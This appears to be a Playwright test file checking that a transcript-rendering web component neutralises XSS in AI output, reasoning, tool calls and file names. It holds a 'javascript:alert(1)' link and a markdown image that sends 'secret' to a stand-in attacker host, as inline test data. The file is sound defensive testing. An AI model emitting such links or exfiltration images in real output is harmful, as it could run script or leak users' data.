// Untrusted text in model output, reasoning, tool output and file names renders as text: no script runs, no on* attribute, no disallowed URL.
import { expect, test } from '@playwright/test'
import { XSS_PAYLOADS } from '../../fixtures/xss-payloads.ts'
import { WireLog } from '../../harness/wire-events.ts'
import { auditShadowDom } from '../../harness/dom-audit.ts'

test('the XSS corpus executes nothing and leaves no active markup', async ({ page }) => {
  await page.addInitScript(() => { Object.assign(window, { __xssHits: 0, __xss: () => { (window as unknown as { __xssHits: number }).__xssHits++ } }) })
  await page.goto('/test-pages/ui-harness.html')
  await page.waitForSelector('body[data-ready]')
  const log = new WireLog()
  XSS_PAYLOADS.forEach((payload, i) => {
    log.user(payload).turn({
      text: `answer ${i}: ${payload}`,
      reasoning: payload,
      tools: [
        { name: 'bash', args: JSON.stringify({ command: payload }), output: payload, callCard: { card: 'terminal', title: payload }, resultCard: { card: 'terminal', output: payload, exitCode: 0 } },
        { name: 'write', args: JSON.stringify({ file_path: payload }), output: payload, isError: true, callCard: { card: 'diff', title: payload, diffs: [{ path: payload, oldText: null, newText: payload }] } },
      ],
    })
  })
  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events as unknown[])
  await expect(page.locator('dsh-transcript [part~="assistant-message"]').first()).toBeVisible()
  await page.locator('dsh-transcript details').first().evaluate((d) => { (d as HTMLDetailsElement).open = true })
  await page.waitForTimeout(300)
  const audit = await page.evaluate(auditShadowDom, 'dsh-transcript')
  expect(await page.evaluate(() => (window as any).__xssHits)).toBe(0)
  expect(audit.onAttributes).toEqual([])
  expect(audit.badHrefs).toEqual([])
  expect(audit.forbidden).toEqual([])
  expect(audit.linksWithoutRel).toBe(0)
  for (const payload of XSS_PAYLOADS.slice(0, 5)) expect(audit.text).toContain(payload.replace(/```html\n|\n```/g, ''))
})

test('links open only http(s)/mailto in a new context; images wait for a trusted click', async ({ page }) => {
  const requests: string[] = []
  page.on('request', (r) => requests.push(r.url()))
  await page.goto('/test-pages/ui-harness.html')
  await page.waitForSelector('body[data-ready]')
  const log = new WireLog().turn({ text: '[docs](https://docs.test/a) [bad](javascript:alert(1)) ![chart](https://attacker.test/leak?d=secret)' })
  await page.evaluate((events) => (window as any).dshHarness.renderTranscript(events), log.events as unknown[])
  const link = page.locator('dsh-transcript a[part~="link"]')
  await expect(link).toHaveAttribute('href', 'https://docs.test/a')
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(page.locator('dsh-transcript [part~="blocked-link"]')).toHaveText('bad')
  const placeholder = page.locator('dsh-transcript [part~="image-placeholder"]')
  await expect(placeholder).toBeVisible()
  await placeholder.evaluate((b) => (b as HTMLButtonElement).click())
  await expect(page.locator('dsh-transcript img')).toHaveCount(0)
  expect(requests.some((u) => u.includes('attacker.test'))).toBe(false)
  await placeholder.click()
  await expect(page.locator('dsh-transcript img[part~="image"]')).toHaveAttribute('referrerpolicy', 'no-referrer')
})
